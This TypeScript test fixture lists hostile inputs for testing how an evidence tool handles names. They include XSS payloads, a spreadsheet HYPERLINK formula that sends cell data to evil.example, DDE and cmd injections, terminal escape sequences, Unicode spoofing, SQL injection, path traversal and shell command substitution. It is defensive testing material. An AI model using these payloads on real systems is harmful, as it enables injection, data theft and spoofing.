/** What somebody who knows that an analyst will look may call a file, a program, a user, a host or a stick. */
export interface Payload {
  /** What it tries. */
  readonly aim: string;
  readonly text: string;
}

const payload = (aim: string, text: string): Payload => ({ aim, text });

/**
 * Names that do harm where they are taken for something else than a name. All of them may stand in evidence: none is to be
 * refused, run, or lost.
 */
export const hostilePayloads: readonly Payload[] = [
  payload('script element', '<script>globalThis.taken=1</script>'),
  payload('event handler', '<img src=x onerror=globalThis.taken=2>'),
  payload('SVG with handler', '<svg/onload=globalThis.taken=3>'),
  payload('end of an attribute', '" onmouseover="globalThis.taken=4" x="'),
  payload('end of an attribute in single quotes', "' autofocus onfocus='globalThis.taken=5"),
  payload('end of title and style', '</title></style><script>globalThis.taken=6</script>'),
  payload('end of a comment', '--><iframe srcdoc="&lt;script&gt;globalThis.taken=7&lt;/script&gt;">'),
  payload('end of a CDATA section', ']]><base href="https://evil.example/">'),
  payload('meta refresh', '<meta http-equiv=refresh content="0;url=https://evil.example">'),
  payload('script address', 'javascript:globalThis.taken=8'),
  payload('data address', 'data:text/html,<script>globalThis.taken=9</script>'),
  payload('character references', '&lt;b&gt;&#60;script&#62;&amp;amp;'),
  payload('style expression', '<style>*{background:url(https://evil.example/x)}</style>'),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is what somebody else's template would fill.
  payload('template of a script', '${globalThis.taken=10}{{constructor.constructor("x")()}}'),
  payload('Markdown link', '[open](https://evil.example) ![x](https://evil.example/i.png)'),
  payload('formula with equals', '=HYPERLINK("https://evil.example?"&A1,"open")'),
  payload('formula with plus', '+1+cmd|"/C calc"!A0'),
  payload('formula with minus', '-2+3+cmd|"/C calc"!A0'),
  payload('formula with at', '@SUM(1+1)*cmd|"/C calc"!A0'),
  payload('formula behind a tab', '\t=1+1'),
  payload('formula behind a carriage return', '\r=3+3'),
  payload('formula behind blanks', '   =2+2'),
  payload('formula behind a hidden character', '\u200b=1+1'),
  payload('formula, full width', '\uff1d1+1'),
  payload('data exchange', '=DDE("cmd";"/C calc";"x")'),
  payload('cells and rows of a CSV', 'a","=1+1",\r\n"=2+2'),
  payload('colour and clearing of a terminal', '\u001b[2J\u001b[31mred\u001b[0m'),
  payload('title of a terminal', '\u001b]0;taken\u0007'),
  payload('link of a terminal', '\u001b]8;;https://evil.example\u0007open\u001b]8;;\u0007'),
  payload('clipboard of a terminal', '\u001b]52;c;Y2FsYw==\u0007'),
  payload('control sequence in one character', '\u009b31mred'),
  payload('backspaces over what came before', 'bad.exe\b\b\b\b\b\b\bgood.exe'),
  payload('another line', 'first\nsecond'),
  payload('a line that looks like output', 'x\r\nportside: everything is fine'),
  payload('line and paragraph separator', 'a\u2028b\u2029c'),
  payload('NUL', 'good.txt\u0000.exe'),
  payload('override of direction', 'invoice\u202exslx.exe'),
  payload('isolates of direction', '\u2066admin\u2069\u2067root'),
  payload('zero width', 'ex\u200bplo\u200drer\ufeff.exe'),
  payload('tags that nobody sees', 'a\u{e0041}\u{e0042}'),
  payload('letters of another script', 'ехрlоrеr.ехе'),
  payload('flood of combining marks', `z${'\u0301\u0327'.repeat(400)}`),
  payload('half of a pair', 'a\ud800b'),
  payload('noncharacters', 'a\uffff\ufffeb'),
  payload('name of a prototype', '__proto__'),
  payload('name of a constructor', 'constructor'),
  payload('end of a statement', "'; DROP TABLE writes; --"),
  payload('wildcards of LIKE', '%_\\%'),
  payload('query syntax', 'host.name:* OR NOT (user.name:"x") AND /.*/ {* TO *}'),
  payload('way out of a folder', '..\\..\\..\\Windows\\System32\\evil.dll'),
  payload('way out of a folder, forward', '../../../../etc/cron.d/evil'),
  payload('name of a device', 'CON'),
  payload('name of a device with extension', 'LPT1.txt'),
  payload('stream behind a name', 'a.txt:evil.exe:$DATA'),
  payload('option of a command', '--workspace=/etc'),
  payload('command of a shell', '$(touch taken)`touch taken`;|&'),
  payload('format of a text', '%s%s%n%x{0}'),
  payload('one ampersand', '&'),
  payload('words for nothing', 'null'),
  payload('a number that is none', 'NaN'),
  payload('a number past all bounds', '1e400'),
  payload('a very long name', 'L'.repeat(32_000)),
];
